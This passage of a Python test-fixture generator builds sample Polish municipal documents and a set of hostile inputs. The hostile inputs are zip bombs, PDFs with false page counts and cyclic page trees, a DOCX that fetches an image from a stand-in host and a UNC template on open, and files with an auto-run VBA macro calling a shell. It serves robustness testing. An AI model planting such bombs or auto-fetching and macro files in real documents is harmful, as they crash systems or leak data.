        ("Kultura i ochrona dziedzictwa narodowego", 1180000, 1142337.08),
    ]
    return fods([("Dochody", budget_sheet("Sprawozdanie z wykonania dochodów budżetu Gminy Zielona Łąka za 2024 rok (w złotych)", dochody)),
                 ("Wydatki", budget_sheet("Sprawozdanie z wykonania wydatków budżetu Gminy Zielona Łąka za 2024 rok (w złotych)", wydatki))],
                "Wykonanie budżetu Gminy Zielona Łąka za 2024 rok", "Bożena Nowicka",
                ["9cm", "3.5cm", "3.5cm", "3cm"])


WYNIKI_ROWS = [
    (1, "Stowarzyszenie Przyjaciół Zielonej Łąki", "Letnie warsztaty plastyczne dla dzieci", 87, 12000, 12000, "dotacja przyznana w całości"),
    (2, "Klub Sportowy „Orzeł” Zielona Łąka", "Szkolenie młodzieży w piłce nożnej", 81, 25000, 20000, "dotacja przyznana częściowo"),
    (3, "Koło Gospodyń Wiejskich w Górkach Małych", "Warsztaty kulinarne „Smaki naszej gminy”", 93, 8500, 8500, "wyróżnienie za najlepszą ofertę"),
    (4, "Fundacja „Zdrowy Senior”", "Gimnastyka i badania profilaktyczne dla seniorów", 76, 15000, 10000, "dotacja przyznana częściowo"),
    (5, "Ochotnicza Straż Pożarna w Lipowcu", "Pokazy pierwszej pomocy w szkołach", 58, 6000, 0, "oferta poniżej progu punktowego"),
]


def fods_wyniki():
    rows = [["Wyniki otwartego konkursu ofert na realizację zadań publicznych w 2024 r."], [],
            ["Lp.", "Organizacja", "Tytuł zadania", "Punkty", "Kwota wnioskowana (zł)", "Kwota przyznana (zł)", "Uwagi"]]
    rows += [list(r) for r in WYNIKI_ROWS]
    n = len(WYNIKI_ROWS)
    rows.append(["", "Razem", "", "", ("of:=SUM([.E4:.E%d])" % (3 + n), sum(r[4] for r in WYNIKI_ROWS)),
                 ("of:=SUM([.F4:.F%d])" % (3 + n), sum(r[5] for r in WYNIKI_ROWS)), ""])
    return fods([("Wyniki", rows)], "Wyniki konkursu ofert 2024", "Anna Nowak",
                ["1.2cm", "8cm", "9cm", "1.8cm", "4cm", "4cm", "6.5cm"])


# ------------------------------------------------------------------ generic helpers

def run(cmd, **kw):
    subprocess.run(cmd, check=True, **kw)


def soffice_convert(files, fmt, outdir, profile):
    run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
         "--convert-to", fmt, "--outdir", outdir] + files,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def zinfo(name, compress=zipfile.ZIP_DEFLATED):
    zi = zipfile.ZipInfo(name, FIXED_DT)
    zi.compress_type = compress
    zi.external_attr = 0o644 << 16
    return zi


def rewrite_zip(src_bytes, replace=None, add=None, first=None):
    """Copy a zip, replacing some members' bytes and adding others.
    first: (name, bytes) written first and stored (ODF mimetype)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src_bytes)) as zin, zipfile.ZipFile(out, "w") as zout:
        if first:
            zout.writestr(zinfo(first[0], zipfile.ZIP_STORED), first[1])
        for item in zin.infolist():
            if first and item.filename == first[0]:
                continue
            data = replace.get(item.filename, zin.read(item.filename))
            comp = zipfile.ZIP_STORED if item.filename == "mimetype" else zipfile.ZIP_DEFLATED
            zout.writestr(zinfo(item.filename, comp), data)
        for name, data in (add or []):
            zout.writestr(zinfo(name), data)
    return out.getvalue()


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def hand_pdf(objects, root=1):
    """objects: list of bytes bodies for objects 1..n. Returns a PDF with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def content_stream(text):
    data = text.encode("latin-1")
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


# ---------------------------------------------------------------------- real files

def make_docx_formularz(path):
    import docx
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn
    from docx.shared import Pt

    d = docx.Document()
    rpr = d.styles["Normal"].element.get_or_add_rPr()
    lang = OxmlElement("w:lang")
    lang.set(qn("w:val"), "pl-PL")
    rpr.append(lang)
    d.styles["Normal"].font.size = Pt(11)
    d.add_heading("Formularz zgłoszeniowy kandydata do Młodzieżowej Rady Gminy Zielona Łąka", level=1)
    d.add_paragraph("Wypełnij drukowanymi literami. Pola oznaczone gwiazdką są obowiązkowe.")
    t = d.add_table(rows=0, cols=2)
    t.style = "Table Grid"
    for label in ["Imię i nazwisko*", "Data urodzenia*", "Adres zamieszkania*",
                  "Szkoła i klasa*", "Telefon lub adres e-mail", "Zainteresowania i doświadczenie społeczne"]:
        row = t.add_row().cells
        row[0].text = label
        row[1].text = ""
    d.add_paragraph()
    d.add_paragraph("Oświadczam, że zapoznałem się z zasadami wyborów do Młodzieżowej Rady Gminy i akceptuję je. "
                    "Wyrażam zgodę na przetwarzanie moich danych osobowych w celu przeprowadzenia wyborów.")
    d.add_paragraph("Jeżeli zgłoszenie w imieniu kandydata składa inna osoba, do formularza należy dołączyć "
                    "pełnomocnictwo podpisane przez kandydata lub jego przedstawiciela ustawowego.")
    d.add_paragraph("Zgłoszenia przyjmuje biuro obsługi mieszkańców od poniedziałku do piątku, "
                    "w godzinach pracy urzędu, do dnia 30 września 2024 r.")
    d.add_paragraph("Podpis kandydata: ………………………………")
    d.add_paragraph("Podpis rodzica lub opiekuna prawnego (w przypadku osoby niepełnoletniej): ………………………………")
    cp = d.core_properties
    cp.author = "Anna Nowak"
    cp.last_modified_by = "Piotr Wiśniewski"
    cp.title = "Formularz zgłoszeniowy kandydata"
    cp.language = "pl-PL"
    cp.created = FIXED_DATETIME
    cp.modified = datetime.datetime(2024, 5, 20, 14, 5, 0)
    cp.revision = 3
    cp.comments = ""
    d.save(path)


CORE_XML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:dcmitype="http://purl.org/dc/dcmitype/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>{title}</dc:title><dc:creator>{creator}</dc:creator><cp:lastModifiedBy>{modifier}</cp:lastModifiedBy><dc:language>pl-PL</dc:language><cp:revision>2</cp:revision><dcterms:created xsi:type="dcterms:W3CDTF">2024-05-14T09:30:00Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2024-05-20T14:05:00Z</dcterms:modified></cp:coreProperties>"""


def make_xlsx_wyniki(lo_xlsx, path):
    """LibreOffice's xlsx (shared strings, as Excel writes), with our own docProps/core.xml."""
    core = CORE_XML.format(title="Wyniki konkursu ofert 2024", creator="Anna Nowak", modifier="Anna Nowak")
    with open(lo_xlsx, "rb") as f:
        write(path, rewrite_zip(f.read(), {"docProps/core.xml": core.encode()}))


def make_pptx(path, slides, author, title):
    from pptx import Presentation

    prs = Presentation()
    (t1, sub1) = slides[0]
    s = prs.slides.add_slide(prs.slide_layouts[0])
    s.shapes.title.text = t1
    s.placeholders[1].text = sub1
    for title_text, bullets in slides[1:]:
        s = prs.slides.add_slide(prs.slide_layouts[1])
        s.shapes.title.text = title_text
        tf = s.placeholders[1].text_frame
        tf.text = bullets[0]
        for b in bullets[1:]:
            tf.add_paragraph().text = b
    cp = prs.core_properties
    cp.author = author
    cp.last_modified_by = author
    cp.title = title
    cp.language = "pl-PL"
    cp.created = FIXED_DATETIME
    cp.modified = datetime.datetime(2024, 5, 20, 14, 5, 0)
    prs.save(path)


PREZENTACJA = [
    ("Nowe życie starego rynku", "Projekt Gminy Zielona Łąka na lata 2024–2026"),
    ("Cele projektu", [
        "rewitalizacja zabytkowego rynku i przyległych kamienic",
        "Nowa zieleń: 48 drzew i łąka kwietna zamiast parkingu",
        "Miejsce spotkań dla mieszkańców w każdym wieku",
        "Mniej samochodów w centrum, więcej miejsca dla pieszych i rowerzystów",
    ]),
    ("Koszty i terminy", [
        "Całkowity koszt: 7,4 mln zł, w tym 5,1 mln zł ze środków unijnych",
        "Projekt techniczny: do grudnia 2024 r.",
        "Roboty budowlane: od kwietnia 2025 r. do sierpnia 2026 r.",
        "Konsultacje społeczne: każdy pierwszy czwartek miesiąca w świetlicy",
    ]),
]

HARMONOGRAM = [
    ("Harmonogram imprez gminnych 2025", "Gminny Ośrodek Kultury w Zielonej Łące"),
    ("Lato i jesień", [
        "21 czerwca – Noc Świętojańska nad zalewem",
        "15 sierpnia – gminne dożynki w Górkach Małych, msza i korowód wieńców",
        "7 września – rajd rowerowy szlakiem młynów",
        "11 listopada – bieg niepodległości wokół parku dworskiego",
    ]),
    ("Zgłoszenia wystawców", [
        "Koła gospodyń i rękodzielnicy mogą zgłaszać stoiska do 30 czerwca",
        "Opłata za stoisko: 50 zł za dzień, dla organizacji pozarządowych bezpłatnie",
        "Telefon: 43 820 15 17, e-mail: kultura@zielonalaka.example",
    ]),
]


def make_scan(path):
    from PIL import Image, ImageDraw, ImageFilter, ImageFont

    w, h = 827, 1169  # A4 at 100 dpi
    img = Image.new("L", (w, h), 246)
    draw = ImageDraw.Draw(img)
    font = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSerif.ttf", 17)
    bold = ImageFont.truetype("/usr/share/fonts/truetype/dejavu/DejaVuSerif-Bold.ttf", 22)
    draw.text((120, 110), "Pismo przychodzące – skan", font=bold, fill=30)
    lines = ("Szanowni Państwo, uprzejmie informuję, że w dniu 4 marca nastąpi",
             "wyłączenie dopływu wody w miejscowości Lipowiec w godzinach",
             "od 8:00 do 14:00 z powodu wymiany zasuwy na sieci wodociągowej.",
             "Za utrudnienia przepraszamy.", "", "Z poważaniem", "Kierownik zakładu komunalnego")
    y = 190
    for line in lines:
        draw.text((120, y), line, font=font, fill=40)
        y += 30
    rng = random.Random(7)
    for _ in range(3000):
        draw.point((rng.randrange(w), rng.randrange(h)), fill=rng.randrange(150, 230))
    img = img.rotate(0.7, fillcolor=246).filter(ImageFilter.GaussianBlur(0.6))
    img.save(path, "PDF", resolution=100.0, quality=60)


def make_signed(src, path, tmp):
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "PL"),
                      x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Urząd Gminy Zielona Łąka (test)"),
                      x509.NameAttribute(NameOID.COMMON_NAME, "Katarzyna Mazur (certyfikat testowy)")])
    now = datetime.datetime(2024, 1, 1)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now).not_valid_after(now + datetime.timedelta(days=3650))
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=True,
                                         key_encipherment=False, data_encipherment=False,
                                         key_agreement=False, key_cert_sign=True, crl_sign=False,
                                         encipher_only=False, decipher_only=False), critical=True)
            .sign(key, hashes.SHA256()))
    kp, cp = os.path.join(tmp, "key.pem"), os.path.join(tmp, "cert.pem")
    write(kp, key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption()))
    write(cp, cert.public_bytes(serialization.Encoding.PEM))
    signer = signers.SimpleSigner.load(kp, cp)
    meta = signers.PdfSignatureMetadata(field_name="Podpis1", reason="Zatwierdzenie zaświadczenia",
                                        location="Zielona Łąka")
    with open(src, "rb") as inf:
        w = IncrementalPdfFileWriter(inf)
        with open(path, "wb") as outf:
            signers.sign_pdf(w, meta, signer=signer, output=outf)


# ------------------------------------------------------------------- hostile files

def make_bomb_ratio_docx(path, size=200 * 1024 * 1024):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
    head = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<w:body><w:p><w:r><w:t>').encode()
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(zinfo("[Content_Types].xml"), ct)
        z.writestr(zinfo("_rels/.rels"), rels)
        zi = zinfo("word/document.xml")
        with z.open(zi, "w") as f:
            f.write(head)
            chunk = b"A" * (1024 * 1024)
            left = size - len(head) - len(tail)
            while left > 0:
                f.write(chunk[:min(left, len(chunk))])
                left -= len(chunk)
            f.write(tail)


def make_bomb_entries(path, n=20000):
    with zipfile.ZipFile(path, "w") as z:
        for i in range(n):
            z.writestr(zinfo(f"{i:05d}", zipfile.ZIP_STORED), b"x")


def make_bomb_nested(path, fanout=10, payload=10 * 1024 * 1024):
    def zbytes(entries):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            for name, data in entries:
                zi = zinfo(name)
                z.writestr(zi, data, compresslevel=9)
        return b.getvalue()

    zeros = bytes(payload)
    level3 = zbytes([(f"dane-{i}.bin", zeros) for i in range(fanout)])
    level2 = zbytes([(f"poziom3-{i}.zip", level3) for i in range(fanout)])
    level1 = zbytes([(f"poziom2-{i}.zip", level2) for i in range(fanout)])
    write(path, level1)


def make_bomb_declared_small(path, size=100 * 1024 * 1024, declared=100):
    line = "Dane pomiarowe stacji w Lipowcu:\n".encode()
    payload = line + b"0" * (size - len(line))
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr(zinfo("dane.txt"), payload, compresslevel=9)
    data = bytearray(b.getvalue())
    assert data[:4] == b"PK\x03\x04"
    struct.pack_into("<I", data, 22, declared)          # local header: uncompressed size
    cd = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, declared)     # central directory: uncompressed size
    write(path, bytes(data))


def make_many_pages(path, n=5000):
    """n blank A4 pages sharing one MediaBox object, packed into object streams,
    so the file stays small."""
    import pikepdf
    pdf = pikepdf.new()
    mediabox = pdf.make_indirect(pikepdf.Array([0, 0, 595, 842]))
    for _ in range(n):
        pdf.pages.append(pikepdf.Page(pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=mediabox)))
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def make_pages_count_lie(path):
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        content_stream("BT /F1 14 Tf 72 770 Td (Strona 1 z 100000000) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    write(path, hand_pdf(objs))


def make_pages_cycle(path):
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        # root node: a real page and an intermediate node whose only kid is the root again
        b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        content_stream("BT /F1 14 Tf 72 770 Td (Strona 1) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ]
    write(path, hand_pdf(objs))


def make_docx_base(text_paras, title):
    import docx
    d = docx.Document()
    d.add_heading(title, level=1)
    for p in text_paras:
        d.add_paragraph(p)
    d.core_properties.author = "Referat Organizacyjny"
    d.core_properties.created = FIXED_DATETIME
    d.core_properties.modified = FIXED_DATETIME
    d.core_properties.language = "pl-PL"
    return d


def make_external_reference_docx(path, tmp):
    from PIL import Image
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn
    from docx.shared import Cm

    d = make_docx_base(["Plan sytuacyjny terenu przy szkole w Lipowcu. Rysunek poniżej jest "
                        "wczytywany z serwera przy otwarciu dokumentu."], "Plan sytuacyjny")
    png = os.path.join(tmp, "plan.png")
    Image.new("RGB", (40, 30), (200, 220, 200)).save(png)
    d.add_picture(png, width=Cm(8))
    ext_rid = d.part.relate_to("http://example.invalid/x.png", RT.IMAGE, is_external=True)
    blip = d.element.body.xpath(".//a:blip")[0]
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), ext_rid)
    # attached template on a UNC path, as Word writes it into settings.xml.rels
    settings_part = d.part._settings_part
    tpl_rid = settings_part.relate_to(r"\\server\share\t.dotm", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", is_external=True)
    at = OxmlElement("w:attachedTemplate")
    at.set(qn("r:id"), tpl_rid)
    el = settings_part.element
    anchor = el.find(qn("w:defaultTabStop"))
    if anchor is not None:
        anchor.addprevious(at)
    else:
        el.append(at)
    b = io.BytesIO()
    d.save(b)
    # drop the now unreferenced embedded copy of the picture
    data = b.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rels = z.read("word/_rels/document.xml.rels").decode()
        media = [n for n in z.namelist() if n.startswith("word/media/")]
    rels = re.sub(r'<Relationship [^>]*Target="media/[^"]*"/>', "", rels)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for it in zin.infolist():
            if it.filename in media:
                continue
            body = rels.encode() if it.filename == "word/_rels/document.xml.rels" else zin.read(it.filename)
            zout.writestr(zinfo(it.filename), body)
    write(path, out.getvalue())


FAKE_VBA = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
            + bytes(480) + b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
            b"  Shell \"cmd /c echo test\"\r\nEnd Sub\r\n")


def make_macro_docx(path):
    d = make_docx_base(["Kalkulator opłat za wodę. Włącz makra, aby przeliczyć należność."], "Kalkulator opłat")
    b = io.BytesIO()
    d.save(b)
    with zipfile.ZipFile(io.BytesIO(b.getvalue())) as z:
        ct = z.read("[Content_Types].xml").decode()
        rels = z.read("word/_rels/document.xml.rels").decode()
    ct = ct.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml")
    ct = ct.replace("<Default ", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1)
    rels = rels.replace("</Relationships>",
                        '<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    write(path, rewrite_zip(b.getvalue(), {"[Content_Types].xml": ct.encode(),
                                           "word/_rels/document.xml.rels": rels.encode()},
                            add=[("word/vbaProject.bin", FAKE_VBA)]))


def make_macro_xlsx(path):
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Opłaty"
    ws.append(["Zużycie (m³)", "Stawka (zł)", "Należność (zł)"])
    ws.append([12.5, 6.84, 85.5])
    wb.properties.creator = "Referat Organizacyjny"
    b = io.BytesIO()
    wb.save(b)
    with zipfile.ZipFile(io.BytesIO(b.getvalue())) as z:
        ct = z.read("[Content_Types].xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
    ct = ct.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ct = ct.replace("<Default ", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1)
    rels = rels.replace("</Relationships>",
                        '<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    write(path, rewrite_zip(b.getvalue(), {"[Content_Types].xml": ct.encode(),
                                           "xl/_rels/workbook.xml.rels": rels.encode()},
                            add=[("xl/vbaProject.bin", FAKE_VBA)]))


def minimal_pe():
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHHHHHHHHHHH", dos, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0, 0)
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    dos[0x40:0x40 + len(stub)] = stub
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0x66000000, 0, 0, 0xE0, 0x0102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
                      0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000, 0x400000, 0x1000, 0x200,
                      6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 3, 0x8140,
                      0x100000, 0x1000, 0x100000, 0x1000, 0, 16) + bytes(128)
    sect = struct.pack("<8sIIIIIIHHI", b".text", 0x10, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    head = bytes(dos) + coff + opt + sect
    head += bytes(0x200 - len(head))
    code = b"\x31\xc0\xc3" + bytes(0x200 - 3)  # xor eax,eax; ret
    return head + code


def minimal_elf():
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # exit(0)
    size = 64 + 56 + len(code)
    ehdr = (b"\x7fELF\x02\x01\x01\x00" + bytes(8)
            + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0))
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    return ehdr + phdr + code


def shift_pdf_insert(pdf_bytes, insert_after_line, insert):
    """Insert bytes after the given line (0-based) of a PDF with one classic xref table
    and fix the xref offsets and startxref so the result is still a valid PDF."""
    pos = 0
    for _ in range(insert_after_line + 1):
        pos = pdf_bytes.index(b"\n", pos) + 1
    k = len(insert)
    out = pdf_bytes[:pos] + insert + pdf_bytes[pos:]
    xref_at = out.rindex(b"\nxref\n") + 1
    trailer_at = out.index(b"trailer", xref_at)
    table = out[xref_at:trailer_at]
    table = re.sub(rb"(\d{10}) (\d{5}) n", lambda m: b"%010d %s n" % (int(m.group(1)) + k, m.group(2)), table)
    out = out[:xref_at] + table + out[trailer_at:]
    out = re.sub(rb"startxref\s+(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + k), out)
    return out


# ----------------------------------------------------------------------- generate

def generate(out):
    tmp = tempfile.mkdtemp(prefix="kronika-fixtures-")
    try:
        _generate(out, tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def _generate(out, tmp):
    import pikepdf

    real, hostile, bench = (os.path.join(out, d) for d in ("real", "hostile", "bench"))
    for d in (real, hostile, bench):
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    profile = os.path.join(tmp, "lo-profile")
    src = os.path.join(tmp, "src")
    lo = os.path.join(tmp, "lo")
    os.makedirs(src)
    os.makedirs(lo)

    def put(name, text):
        p = os.path.join(src, name)
        write(p, text.encode("utf-8"))
        return p

    # --- LibreOffice sources
    pdf_srcs = [
        put("regulamin-naboru.fodt", fodt(REGULAMIN_PAGES, "Regulamin naboru na wolne stanowisko urzędnicze", "Jan Kowalski", "Jan Kowalski")),
        put("strony-10.fodt", fodt(bench_pages(10, 10), "Kronika gminy – 10 stron", "Referat Promocji", "Referat Promocji", "10.5pt")),
        put("strony-200.fodt", fodt(bench_pages(200, 200), "Kronika gminy – 200 stron", "Referat Promocji", "Referat Promocji", "10.5pt")),
        put("godziny.fodt", fodt([GODZINY], "Informacja o godzinach pracy urzędu", "Referat Organizacyjny", "Referat Organizacyjny")),
        put("zaswiadczenie.fodt", fodt([ZASWIADCZENIE], "Zaświadczenie o ukończeniu szkolenia", "Katarzyna Mazur", "Katarzyna Mazur")),
        put("mapa-dojazdu.fodt", fodt([MAPA], "Dojazd na spotkanie", "Referat Organizacyjny", "Referat Organizacyjny")),
    ]
    soffice_convert(pdf_srcs, "pdf:writer_pdf_Export", lo, profile)
    soffice_convert([put("uchwala-rady.fodt", fodt([UCHWALA], "Uchwała nr XII/87/2024 Rady Gminy Zielona Łąka", "Maria Zielińska", "Maria Zielińska")),
                     put("rozklad.fodt", fodt([ROZKLAD], "Zmiana rozkładu jazdy", "Referat Organizacyjny", "Referat Organizacyjny"))],
                    "odt", lo, profile)
    soffice_convert([put("notatka-sluzbowa.fodt", fodt([NOTATKA], "", "Ewa Dąbrowska", "Ewa Dąbrowska"))],
                    "rtf", lo, profile)
    soffice_convert([put("budzet-gminy.fods", fods_budget())], "ods", lo, profile)
    soffice_convert([put("wyniki-konkursu.fods", fods_wyniki())], "xlsx:Calc MS Excel 2007 XML", lo, profile)
    harm_pptx = os.path.join(src, "harmonogram.pptx")
    make_pptx(harm_pptx, HARMONOGRAM, "Gminny Ośrodek Kultury", "Harmonogram imprez gminnych 2025")
    soffice_convert([harm_pptx], "odp", lo, profile)
    L = lambda n: os.path.join(lo, n)  # noqa: E731

    # --- real/
    with pikepdf.open(L("regulamin-naboru.pdf")) as pdf:
        pdf.docinfo["/Author"] = "Jan Kowalski"
        pdf.docinfo["/Creator"] = r"C:\Users\jan.kowalski\Dokumenty\regulamin.odt"
        pdf.docinfo["/Title"] = "Regulamin naboru na wolne stanowisko urzędnicze"
        pdf.save(os.path.join(real, "regulamin-naboru.pdf"))
    make_docx_formularz(os.path.join(real, "formularz-zgloszeniowy.docx"))
    make_xlsx_wyniki(L("wyniki-konkursu.xlsx"), os.path.join(real, "wyniki-konkursu.xlsx"))
    make_pptx(os.path.join(real, "prezentacja-projektu.pptx"), PREZENTACJA, "Piotr Wiśniewski", "Nowe życie starego rynku")
    shutil.copy(L("uchwala-rady.odt"), os.path.join(real, "uchwala-rady.odt"))
    shutil.copy(L("budzet-gminy.ods"), os.path.join(real, "budzet-gminy.ods"))
    shutil.copy(L("harmonogram.odp"), os.path.join(real, "harmonogram.odp"))
    shutil.copy(L("notatka-sluzbowa.rtf"), os.path.join(real, "notatka-sluzbowa.rtf"))
    write(os.path.join(real, "komunikat.txt"), KOMUNIKAT_UTF8.encode("utf-8"))
    write(os.path.join(real, "komunikat-cp1250.txt"), KOMUNIKAT_CP1250.replace("\n", "\r\n").encode("cp1250"))
    csv = "".join(";".join(r) + "\r\n" for r in LISTA_CSV_ROWS)
    write(os.path.join(real, "lista-obecnosci.csv"), b"\xef\xbb\xbf" + csv.encode("utf-8"))
    with zipfile.ZipFile(os.path.join(real, "materialy.zip"), "w") as z:
        z.writestr(zinfo("materialy/informacja.txt"),
                   "Materiały na spotkanie informacyjne w sprawie budowy ścieżki rowerowej.\n"
                   "Spotkanie odbędzie się w świetlicy w Lipowcu we wtorek o 18:00.\n".encode())
        with open(L("mapa-dojazdu.pdf"), "rb") as f:
            z.writestr(zinfo("materialy/mapa-dojazdu.pdf"), f.read())
    make_scan(os.path.join(real, "skan-bez-tekstu.pdf"))
    make_signed(L("zaswiadczenie.pdf"), os.path.join(real, "podpisany.pdf"), tmp)

    # --- bench/
    for n in ("strony-10", "strony-200"):
        shutil.copy(L(n + ".pdf"), os.path.join(bench, n + ".pdf"))

    # --- hostile/
    H = lambda n: os.path.join(hostile, n)  # noqa: E731
    base_pdf = open(L("godziny.pdf"), "rb").read()
    make_bomb_ratio_docx(H("bomb-ratio.docx"))
    make_bomb_entries(H("bomb-entries.zip"))
    make_bomb_nested(H("bomb-nested.zip"))
    make_bomb_declared_small(H("bomb-declared-small.zip"))
    with pikepdf.open(L("godziny.pdf")) as pdf:
        pdf.save(H("encrypted.pdf"), encryption=pikepdf.Encryption(user="user", owner="owner", R=6))
    cut = base_pdf[: int(len(base_pdf) * 0.4)]
    assert b"startxref" not in cut and b"\nxref" not in cut
    write(H("damaged.pdf"), cut)
    write(H("damaged-garbage.pdf"), b"%PDF-1.7\n" + random.Random(1250).randbytes(16 * 1024))
    make_pages_count_lie(H("pages-count-lie.pdf"))
    make_pages_cycle(H("pages-cycle.pdf"))
    make_many_pages(H("many-pages.pdf"))
    make_external_reference_docx(H("external-reference.docx"), tmp)
    make_macro_docx(H("macro.docm-as.docx"))
    make_macro_xlsx(H("macro.xlsm-as.xlsx"))
    write(H("page.html-as.pdf"), (
